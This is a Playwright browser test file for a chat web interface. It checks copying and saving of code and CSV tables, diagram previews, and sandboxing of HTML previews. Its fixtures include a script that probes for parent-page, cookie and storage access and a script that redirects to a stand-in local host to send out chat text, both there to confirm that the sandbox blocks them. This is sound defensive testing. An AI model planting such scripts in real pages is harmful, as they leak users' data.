"""What can be done with code and tables of an answer."""

from __future__ import annotations

import asyncio
import re
import threading
from collections.abc import AsyncIterator
from importlib.metadata import PackageNotFoundError
from pathlib import Path
from typing import Any
from unittest.mock import Mock

import pytest
from playwright.sync_api import FrameLocator, Locator, expect

from qwen35mm.contract import Event, Finished, TextDelta
from qwen35mm.web.serving import previews
from tests.chat.fake_backend import FakeBackend, make_result
from tests.web.browser import ChatPage

pytestmark = pytest.mark.browser

CODE = "if a:\n\tprint('<b>&amp;')  \n\n# Größe"
TABLE = '| shape | how many |\n|---|--:|\n| a "red" dot | =1+1 |\n| square, blue | -3 |'
# Tells the page what it could get at; nothing of it may be there.
NOSY = """<title>x</title><p id=said>nothing</p><script>
const tried = [];
const attempt = (name, what) => { try { const got = what(); if (got) tried.push(name) } catch { } };
attempt("page", () => parent.document.body);
attempt("cookies", () => document.cookie || true);
attempt("storage", () => localStorage);
attempt("window", () => open("about:blank"));
const heard = (name) => (event) => tried.push(name);
addEventListener("load", async () => {
  await fetch("/").then(heard("fetch"), () => 0);
  await fetch("http://127.0.0.1:1/").then(heard("fetch"), () => 0);
  const image = new Image();
  await new Promise(done => { image.onload = () => { heard("image")(); done() }; image.onerror = done;
                              image.src = "/qwen35mm/poster/0" });
  said.textContent = "tried: " + tried.join(" ") + " " + origin;
});
</script>"""

DIAGRAMS = (
    "flowchart LR\n  A[Start] --> B(Round)",
    "sequenceDiagram\n  Round->>Square: Hello",
    "classDiagram\n  class Round",
    "stateDiagram-v2\n  [*] --> Round",
    "erDiagram\n  Round ||--o{ Square : has",
    "gantt\n  title Round\n  section One\n  Task :a, 2026-01-01, 3d",
    'pie\n  title Round\n  "One" : 1',
    "mindmap\n  Round",
    "timeline\n  title Round\n  2026 : One",
    'gitGraph\n  commit id: "Round"',
    "journey\n  title Round\n  section One\n    Go: 5: Me",
    "quadrantChart\n  title Round\n  A: [0.3, 0.6]",
)


def saved(page: ChatPage, button: Locator) -> tuple[str, str]:
    """The name and the text of the file that a button saves."""
    with page.page.expect_download() as download:
        button.click()
    return download.value.suggested_filename, Path(download.value.path()).read_bytes().decode()


def copied(page: ChatPage, button: Locator) -> str:
    """What a button copies."""
    button.click()
    expect(button).to_have_class(re.compile("done"))
    return page.page.evaluate("navigator.clipboard.readText()")


def frame_of(block: Locator) -> FrameLocator:
    return block.frame_locator(".preview iframe")


def test_code_and_tables_are_copied_and_saved_and_an_html_preview_reaches_nothing(page: ChatPage) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.ask(f"echo ```python\n{CODE}\n```\n\n{TABLE}\n\nthe end")
    page.wait_ending("the end")
    tool = page.answers.last.get_by_role("button", name="Copy code")
    assert copied(page, tool) == CODE
    assert saved(page, page.answers.last.get_by_role("button", name="Save code")) == (
        "if-a.py",
        f"{CODE}\n",
    )
    csv = 'shape,how many\r\n"a ""red"" dot",\'=1+1\r\n"square, blue",-3\r\n'
    # A browser gives line ends of the system back.
    text = copied(page, page.answers.last.get_by_role("button", name="Copy table as CSV"))
    assert text.replace("\r\n", "\n") == csv.replace("\r\n", "\n")
    assert saved(page, page.answers.last.get_by_role("button", name="Save table as CSV")) == (
        "shape-how-many.csv",
        f"\ufeff{csv}",
    )
    page.context.clear_permissions()
    # A preview.
    leaving = "<script>location = 'http://127.0.0.1:1/?' + 'what was said'</script>"
    page.ask(f"echo ```html\n{NOSY}\n```\n\n```html\n{leaving}\n```")
    page.wait_answered(2)
    nosy, leaver = page.answers.last.locator(".block").all()
    nosy.get_by_role("button", name="Preview").click()
    expect(frame_of(nosy).locator("#said")).to_have_text("tried:  null")
    leaver.get_by_role("button", name="Preview").click()
    for refusal in ("Framing 'http://127.0.0.1:1/'", "Blocked opening"):
        page.wait_until(lambda refusal=refusal: any(refusal in problem for problem in page.problems))
    # Each was refused by the browser, which says so, and none was sent.
    assert all("Content Security Policy" in problem or "sandbox" in problem for problem in page.problems)
    page.forgive()
    # Opened by itself it has no origin either.
    header = "async () => (await fetch('qwen35mm/preview')).headers.get('content-security-policy')"
    assert page.page.evaluate(header).startswith("sandbox allow-scripts; default-src 'none'; ")


@pytest.mark.slow
def test_what_is_still_written_has_no_tools_and_an_open_preview_stays(
    page: ChatPage, backend: FakeBackend, monkeypatch: pytest.MonkeyPatch
) -> None:
    parts = ["```html\n<p>[one]</p>\n```\n\n```html\n<p>two", "</p>\n```", "\n\n", "the end"]
    go_on = [threading.Event() for _ in parts]

    async def written(*_: Any, **__: Any) -> AsyncIterator[Event]:
        for part, may_go_on in zip(parts, go_on, strict=True):
            yield TextDelta(part)
            while not may_go_on.is_set():
                await asyncio.sleep(0.005)
        yield Finished(make_result("".join(parts)))

    monkeypatch.setattr(backend, "stream", written)
    page.page.emulate_media(color_scheme="dark")
    page.ask("write")
    blocks = page.answers.last.locator(".block")
    first, second = blocks.nth(0), blocks.nth(1)
    first.get_by_role("button", name="Preview").click()
    paragraph = frame_of(first).locator("p")
    expect(paragraph).to_have_text("[one]")
    # On white, as what it shows is written for.
    expect(paragraph).to_have_css("color", "rgb(0, 0, 0)")
    paragraph.evaluate("paragraph => { paragraph.id = 'same' }")
    expect(second.locator("pre")).to_be_visible()
    expect(second.get_by_role("button")).to_have_count(0)
    for each in go_on:
        each.set()
    page.wait_ending("the end")
    second.get_by_role("button", name="Preview").click()
    expect(frame_of(second).locator("p")).to_have_text("two")
    expect(frame_of(first).locator("#same")).to_have_count(1)
    first.get_by_role("button", name="Close preview").click()
    expect(page.answers.last.locator("iframe")).to_have_count(1)
    page.page.emulate_media(color_scheme=None)


def test_a_diagram_is_drawn_once_mermaid_is_installed(page: ChatPage, monkeypatch: pytest.MonkeyPatch) -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="333"><circle r="40" fill="red"/></svg>'
    page.ask(f"echo ```mermaid\ngraph TD\n  A[Start]-->B{{Round?}}\n```\n\n```svg\n{svg}\n```")
    page.wait_answered()
    diagram, picture = page.answers.last.locator(".block").all()
    picture.get_by_role("button", name="Preview").click()
    expect(picture.locator("iframe")).to_have_css("height", "333px")
    with monkeypatch.context() as patched:
        patched.setattr(previews, "distribution", Mock(side_effect=PackageNotFoundError))
        diagram.get_by_role("button", name="Preview").click()
        expect(diagram.locator(".problem")).to_contain_text("install qwen35mm[diagrams]")
        # What it would be drawn of stays.
        expect(diagram.locator("pre")).to_contain_text("A[Start]")
    diagram.get_by_role("button", name="Close preview").click()
    diagram.get_by_role("button", name="Preview").click()
    expect(frame_of(diagram).locator("svg")).to_contain_text("Round?")


@pytest.mark.slow
def test_every_usual_kind_of_diagram_is_drawn(page: ChatPage) -> None:
    page.ask("echo " + "\n\n".join(f"```mermaid\n{diagram}\n```" for diagram in DIAGRAMS))
    page.wait_answered()
    for block in page.answers.last.locator(".block").all():
        block.get_by_role("button", name="Preview").click()
        expect(frame_of(block).locator("svg")).to_contain_text("Round")
        block.get_by_role("button", name="Close preview").click()


@pytest.mark.slow
def test_mermaid_and_svg_are_drawn_as_large_as_they_are(page: ChatPage) -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="333"><circle r="40" fill="red"/></svg>'
    page.ask(
        f"echo ```mermaid\ngraph TD\n  A[Start]-->B{{Round?}}\n```\n\n```svg\n{svg}\n```\n\n```mermaid\nnonsense\n```"
    )
    page.wait_answered()
    diagram, picture, nonsense = page.answers.last.locator(".block").all()
    diagram.get_by_role("button", name="Preview").click()
    expect(frame_of(diagram).locator("svg")).to_contain_text("Round?")
    picture.get_by_role("button", name="Preview").click()
    expect(picture.locator("iframe")).to_have_css("height", "333px")
    nonsense.get_by_role("button", name="Preview").click()
    expect(nonsense.locator(".problem")).to_contain_text("This can't be shown: No diagram type detected")
    # Over the whole page, and back by Escape, without drawing it again.
    frame_of(picture).locator("svg").evaluate("svg => { svg.id = 'same' }")
    picture.get_by_role("button", name="Full screen").click()
    size = page.page.viewport_size
    assert size
    expect(picture.locator("iframe")).to_have_css("height", f"{size['height']}px")
    picture.get_by_role("button", name="Exit full screen").press("Escape")
    expect(picture.get_by_role("button", name="Full screen")).to_be_focused()
    expect(frame_of(picture).locator("#same")).to_have_count(1)
